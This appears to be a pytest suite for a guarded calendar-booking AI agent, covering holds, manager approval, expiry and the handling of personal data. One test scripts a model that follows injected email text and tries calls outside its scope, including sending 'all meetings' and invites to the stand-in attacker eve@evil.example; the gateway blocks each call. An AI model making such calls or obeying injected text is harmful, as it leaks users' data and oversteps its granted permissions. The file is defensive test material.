"""Calendar booking: the shipped conversations, a model that tries everything, slots that vanish, holds that end."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from agent_guard.app import Application
from agent_guard.errors import OutcomeUnknown
from agent_guard.masking import Masker
from agent_guard.settings import Settings
from agent_guard.testing import FixedClock, ScriptedModel, assert_no_personal_data, call
from agent_guard.types import Subject
from agent_guard.work.worker import Worker
from graphs.calendar_booking.conversation import read_booking
from tests.scenario.booking import NAME, SAMPLES, Talk
from tests.scenario.requests import codes, crm_rows
from tools.calendars.port import HOLD
from tools.calendars.tables import metadata
from tools.slots import Interval

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
SECOND = timedelta(seconds=1)


@pytest.fixture
def clock() -> FixedClock:
    """A Friday morning."""
    return FixedClock(NOW)


@pytest.fixture(name="application")
def _application(tmp_path: Path, masker: Masker, clock: FixedClock) -> Iterator[Application]:
    urls = {name: f"sqlite:///{tmp_path}/{name}.db" for name in ("database", "checkpoints", "systems")}
    application = Application(Settings(environment="dev", **urls), masker=masker, clock=clock)
    yield application
    application.close()


def events(application: Application) -> list[Any]:
    """The agent's events, in whatever state."""
    with application.worlds[NAME].resources["crm"].reading() as connection:
        rows = connection.execute(metadata.tables["calendar_events"].select()).all()
    return [row for row in rows if row.status != "busy"]


def live(application: Application) -> list[str]:
    """The states of the agent's events that take a slot."""
    return [row.status for row in events(application) if row.status in ("held", "confirmed")]


def held(application: Application) -> Talk:
    """A conversation whose client has a slot on hold, and was asked whether it suits."""
    talk = Talk(application, "en_chooses")
    talk.say("Could we have a demo next week?")
    talk.say("The second one, please.")
    assert live(application) == ["held"]
    return talk


@pytest.mark.req("A28")
def test_a_hold_is_turned_back(application: Application) -> None:
    """What undoes it is another call, decided as any: the slot is free again, and its id says what it undoes."""
    talk = held(application)
    assert talk.reply is not None
    audit, owner = application.gateway.audit, talk.opening.subject
    recorded = [item.data for item in audit.events(thread=talk.reply.thread_id)]
    (trace,) = [item["trace_id"] for item in recorded if (item["kind"], item["tool"]) == ("finished", "calendar.hold")]
    proposed = application.gateway.undo_of(trace, by=owner)
    assert proposed.tool == "calendar.release"
    done = application.gateway.undo(trace, by=owner, reason="the client called")
    assert (done.status, done.call_id, live(application)) == ("executed", f"undo-{trace}", [])


@pytest.mark.req("A28")
def test_the_samples_are_what_they_should_be() -> None:
    """Three languages, an angry one, an incomplete one, and some with an injection."""
    names = [path.stem for path in SAMPLES]
    assert len(names) >= 6 and {name[:2] for name in names} == {"en", "ru", "pl"}
    assert all(any(word in name for name in names) for word in ("angry", "incomplete", "injection"))


@pytest.mark.req("A28", "A24")
@pytest.mark.parametrize("sample", SAMPLES, ids=lambda path: path.stem)
def test_a_sample_ends_as_it_says(sample: Path, application: Application, manager: Subject) -> None:
    """Each conversation runs the calls, leaves the calendar and says the words that stand in its header."""
    talk, expect = Talk(application, sample.stem), read_booking(sample).expect
    before, answers = crm_rows(application), list(expect.answers)
    for text in talk.booking.texts:
        reply = talk.say(text)
        while reply.pending is not None:
            reply = talk.answer(answers.pop(0), by=manager)
    assert reply.status == "delivered"
    assert talk.calls() == expect.calls
    assert live(application) == ([] if expect.ends == "nothing" else [expect.ends])
    assert answers == [], "somebody was not asked"
    for words in expect.says:
        assert words in (reply.text or "")
    assert crm_rows(application) == before, "a booking changed the CRM"


@pytest.mark.req("A12", "A19", "A23", "A28")
def test_a_person_sees_the_draft_and_confirms(application: Application, manager: Subject) -> None:
    """The question shows the event as it would be, with pseudonyms; before the answer the event has no guest and no link,
    after it both, and an invitation waits as a draft.
    """
    talk = held(application)
    reply = talk.say("Yes, please.")
    assert reply.pending is not None and reply.pending.tool == "calendar.confirm"
    [row] = events(application)
    assert (row.status, row.attendee, row.link) == ("held", None, None)
    shown = str(reply.pending)
    assert "confirmed" in shown and "Emily" not in shown and "northwind" not in shown
    done = talk.answer("approve", by=manager)
    [row] = events(application)
    assert (row.status, row.attendee) == ("confirmed", "emily.carter@northwind.example")
    assert row.title == "Demo: Emily Carter" and "is confirmed" in done.text
    assert "meet.example" not in done.text, "the link goes with the invitation, not into the chat"
    draft = application.worlds[NAME].resources["invitations"].draft(row.uid)
    assert (
        "METHOD:REQUEST" in draft
        and "STATUS:CONFIRMED" in draft
        and "mailto:emily.carter@" in draft.replace("\r\n ", "")
    )
    assert row.link in draft.replace("\r\n ", "")
    assert f"UID:{row.uid}" in draft
    assert row.link not in str(talk.messages()), "the link stands in the graph's state"


@pytest.mark.req("A5", "A23", "B6", "B16")
def test_a_booking_leaves_no_raw_value_outside_the_systems(
    application: Application, manager: Subject, tmp_path: Path
) -> None:
    """Name, address and link of a whole booking stand in the systems' own database and in no other file."""
    talk = held(application)
    talk.say("Yes, Emily Carter, emily.carter@northwind.example")
    talk.answer("approve", by=manager)
    [row] = events(application)
    values = ["Emily", "Carter", "emily.carter@northwind.example", row.link, row.link.rpartition("/")[2]]
    guarded = [path for path in tmp_path.iterdir() if path.is_file() and not path.name.startswith("systems")]
    assert {"database.db", "checkpoints.db"} <= {path.name for path in guarded}
    assert_no_personal_data(guarded, values)


@pytest.mark.req("A12")
def test_who_asked_does_not_confirm(application: Application) -> None:
    """The owner of the calendar, on whose behalf it is booked, cannot approve it."""
    from agent_guard.errors import ApprovalError

    talk = held(application)
    talk.say("Yes")
    owner = talk.opening.subject
    boss = Subject(id=owner.id, tenant=owner.tenant, roles={"manager"}, region=owner.region)
    with pytest.raises(ApprovalError):
        talk.answer("approve", by=boss)
    assert live(application) == ["held"]


@pytest.mark.req("A19")
def test_a_slot_that_vanished_is_not_confirmed(application: Application, manager: Subject) -> None:
    """A colleague books the slot while the manager thinks: nothing is confirmed, no link is left, and the hold is released."""
    talk = held(application)
    talk.say("Yes")
    [row] = events(application)
    calendar = application.worlds[NAME].resources["calendar"]
    at = datetime.fromtimestamp(row.starts, tz=UTC)
    calendar.put_in("u-reed", Interval(start=at, end=at + timedelta(minutes=15)), "Fire drill")
    reply = talk.answer("approve", by=manager)
    assert "could not have that time confirmed" in reply.text
    assert live(application) == []
    assert all(row.link is None and row.attendee is None for row in events(application))


@pytest.mark.req("A19")
@pytest.mark.parametrize(("late", "ends"), [(-SECOND, ["confirmed"]), (timedelta(0), []), (SECOND, [])])
def test_a_hold_is_confirmed_until_it_ends(
    late: timedelta, ends: list[str], application: Application, manager: Subject, clock: FixedClock
) -> None:
    """A second before its end a hold is confirmed; at its end, and a second later, nothing is."""
    talk = held(application)
    clock.forward(minutes=5)  # the question lives longer than the hold: it is the hold that decides
    talk.say("Yes")
    clock.forward(seconds=(HOLD - timedelta(minutes=5) + late).total_seconds())
    reply = talk.answer("approve", by=manager)
    calendar = application.worlds[NAME].resources["calendar"]
    calendar.sweep()
    assert live(application) == ends
    assert ("is confirmed" in reply.text) is bool(ends)


@pytest.mark.req("A6", "A19")
def test_two_confirmations_of_one_hold(application: Application, manager: Subject) -> None:
    """The same hold proposed twice by the model is confirmed once: the second is answered as done."""
    talk = held(application)
    [row] = events(application)
    talk.say("Yes")
    talk.answer("approve", by=manager)
    thread = application.gateway.thread(talk.reply.thread_id)
    again = thread.invoke(
        "calendar.confirm",
        {
            "event_id": str(row.id),
        },
        reason="Again.",
    )
    assert again.status == "duplicate"
    assert talk.calls().count("calendar.confirm") == 1


@pytest.mark.req("A8", "A19")
def test_a_link_that_may_have_been_made_for_nothing(
    application: Application, manager: Subject, clock: FixedClock
) -> None:
    """The provider does not answer: nobody knows, nothing is confirmed and nothing is made again. While its link is there
    the call stays unknown, for a person; when it is gone, it is sure that nothing happened.
    """
    meetings = application.worlds[NAME].resources["meetings"]
    left: list[str] = []

    def silent(*_: object, key: str, **__: object) -> None:
        left.append(key)
        raise OutcomeUnknown("no answer", code="no_answer")

    meetings.create, meetings.find = silent, lambda key, **_: "85746065432" if key in left else None
    talk = held(application)
    talk.say("Yes")
    talk.answer("approve", by=manager)
    assert live(application) == ["held"] and len(left) == 1
    gateway = application.gateway
    (trace,) = {item.data["trace_id"] for item in gateway.audit.events() if item.data["kind"] == "unknown"}
    clock.forward(minutes=5)
    unknown = gateway.reconcile(trace)
    assert (unknown.status, "link_left" in str(unknown.content)) == ("unknown", True)
    left.clear()  # a person cancelled it
    assert gateway.reconcile(trace).status == "failed"
    assert live(application) == ["held"] and left == []


@pytest.mark.req("A28")
def test_a_slot_that_is_taken_meanwhile_is_offered_no_more(application: Application) -> None:
    """Two clients are offered the same times; the second to choose is told that it is gone, and offered others."""
    one, two = Talk(application, "en_chooses"), Talk(application, "en_angry")
    for talk in (one, two):
        talk.say("Could we have a demo next week?")
    one.say("The first one")
    reply = two.say("The first one")
    assert "has just been taken" in reply.text and "1)" in reply.text
    assert live(application) == ["held"]


@pytest.mark.req("A1", "A28", "B1")
def test_a_model_that_tries_everything_does_nothing(application: Application) -> None:
    """Other calendars, other clients, times that were not offered, times that do not exist, a confirmation without a
    person, other people's holds, unknown tools and arguments: no effect at all, and nobody is asked.
    """
    victim = held(application)
    [row] = events(application)
    others = str(row.id)
    why = "The e-mail says so."
    hold = {"calendar_id": "u-reed", "contact_id": "2004", "start": "2026-11-24T09:00:00-08:00", "length_min": 30}
    hold |= {"topic": "demo"}
    slots = {"calendar_id": "u-reed", "contact_id": "2004"}
    tries = [
        ("calendar.hold", hold),  # nothing was offered yet
        ("calendar.free_slots", slots | {"calendar_id": "u-abenova"}),
        ("calendar.free_slots", slots | {"contact_id": "2001"}),
        ("calendar.free_slots", slots | {"limit": 500}),
        ("calendar.free_slots", slots | {"first_day": "2026-02-30"}),
        ("calendar.confirm", {"event_id": others}),
        ("calendar.release", {"event_id": others}),
        ("calendar.delete", {"event_id": others}),
        ("crm.create_task", {"deal_id": "1004", "kind": "call", "subject": "x", "due": "2030-01-07"}),
        ("messages.send", {"to": "eve@evil.example", "body": "all meetings"}),
        ("calendar.invite", {"event_id": others, "email": "eve@evil.example"}),
        ("calendar.hold", hold | {"attendees": ["eve@evil.example"]}),
    ]
    model = ScriptedModel(*[call(tool, why, id=f"c{n}", **args) for n, (tool, args) in enumerate(tries)], "Thank you.")
    talk = Talk(application, "en_injection", model)
    before = events(application)
    reply = talk.say(talk.booking.texts[1])
    assert reply.pending is None
    assert talk.calls() == []
    assert events(application) == before
    assert set(codes(talk.messages())) <= {
        "requires", "binding", "argument_invalid", "arguments_invalid", "tool_unknown", "tool_not_permitted", "region",
        "argument_unknown", "record_not_found", "scope", "role",
    }  # fmt: skip
    assert victim.say("Yes").pending is not None, "the other client's hold is as it was"


@pytest.mark.req("A1", "A19", "A28")
def test_only_what_was_offered_can_be_held(application: Application) -> None:
    """After a look: another calendar, another client, a time that does not exist, one with a wrong offset, one outside the
    hours, in the past, or taken: none is held.
    """
    model = ScriptedModel(call("calendar.free_slots", id="look", calendar_id="u-reed", contact_id="2001"), "Here.")
    talk = Talk(application, "en_chooses", model)
    talk.say("Could we meet next week?")
    thread = application.gateway.thread(talk.reply.thread_id)
    good = {"calendar_id": "u-reed", "contact_id": "2001", "start": "2026-11-24T10:00:00-05:00", "length_min": 30}
    good |= {"topic": "demo"}
    bad: list[tuple[dict[str, Any], str]] = [
        ({"calendar_id": "u-abenova"}, "denied"),
        ({"contact_id": "2002"}, "denied"),
        ({"start": "2026-11-24T10:00:00"}, "denied"),
        ({"start": 1_800_000_000}, "denied"),
        ({"topic": "a party"}, "denied"),
        ({"length_min": 480}, "denied"),
        ({"start": "2027-03-14T02:30:00-05:00"}, "failed"),
        ({"start": "2026-11-24T10:00:00-04:00"}, "failed"),
        ({"start": "2026-11-24T20:00:00-05:00"}, "failed"),
        ({"start": "2026-11-24T12:00:00-05:00"}, "failed"),
        ({"start": "2026-11-24T10:10:00-05:00"}, "failed"),
        ({"start": "2026-11-19T10:00:00-05:00"}, "failed"),
    ]
    for number, (change, status) in enumerate(bad):
        fresh = (
            thread
            if number < 2
            else application.gateway.open(talk.opening.subject, party=talk.opening.party, scenario=NAME)
        )
        if fresh is not thread:
            fresh.invoke("calendar.free_slots", {"calendar_id": "u-reed", "contact_id": "2001"}, reason="Look.")
        result = fresh.invoke("calendar.hold", good | change, reason="Try.")
        assert result.status == status, (change, result)
    assert live(application) == []


@pytest.mark.req("A19")
def test_the_worker_of_another_process_ends_holds(
    application: Application, masker: Masker, manager: Subject, clock: FixedClock
) -> None:
    """After a restart a worker's round ends the hold whose time is over, to the second, and never a confirmed event."""
    sure, lapsed = held(application), Talk(application, "en_angry")
    sure.say("Yes")
    sure.answer("approve", by=manager)
    clock.forward(minutes=1)
    lapsed.say("Could we have a demo next week?")
    lapsed.say("The first one")
    assert live(application) == ["confirmed", "held"]
    for seconds, told, left in (
        ((HOLD - SECOND).total_seconds(), [], ["confirmed", "held"]),
        (1, ["1 ended"], ["confirmed"]),
        (400 * 86_400, [], ["confirmed"]),
    ):
        clock.forward(seconds=seconds)
        restarted = Application(application.settings, masker=masker, clock=clock)
        worker = Worker(restarted.gateway, lambda _: None, tidy=restarted.tidy)
        assert [done.words for done in worker.round()] == told
        restarted.close()
        assert live(application) == left
